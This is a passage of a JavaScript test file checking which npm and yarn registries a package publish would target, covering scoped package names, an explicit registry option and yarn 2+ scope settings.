      "https://corp.example/npm/",
      "https://ws.example/",
      "https://d.example/",
      "https://acme.example/",
    ]);
  });

  it("the command's own choice is accepted besides config's (--registry, publishConfig.registry)", () => {
    expect(
      publishRegistries([rc], {}, "internal", { explicit: "https://x.example/", berry: false }),
    ).toEqual(["https://x.example/", "https://corp.example/npm/"]);
    // npm still sends a scoped name to its scope's registry.
    expect(
      publishRegistries([rc], {}, "@oss/lib", { explicit: "https://x.example/", berry: false }),
    ).toEqual(["https://x.example/", "https://registry.npmjs.org/"]);
  });

  it("yarn 2+: the scope's publish registry or server, else the top-level publish registry or server", () => {
    const yrc = userYarn(
      'npmRegistryServer: "https://corp.example/npm"\nnpmScopes:\n  oss:\n    npmRegistryServer: "https://registry.npmjs.org"\n  pub:\n    npmPublishRegistry: "https://pub.example"\n',
    );
    expect(berry([yrc], "internal")).toEqual(["https://corp.example/npm"]);
    expect(berry([yrc], "@oss/lib")).toEqual([
      "https://registry.npmjs.org",
      "https://corp.example/npm",
    ]);
    expect(berry([yrc], "@pub/lib")).toEqual(["https://pub.example"]);
    expect(berry([], "internal")).toEqual(["https://registry.yarnpkg.com"]);
    expect(
      berry([yrc, projectYarn('npmPublishRegistry: "https://p.example"\n')], "internal"),
    ).toEqual(["https://p.example"]);
  });
});
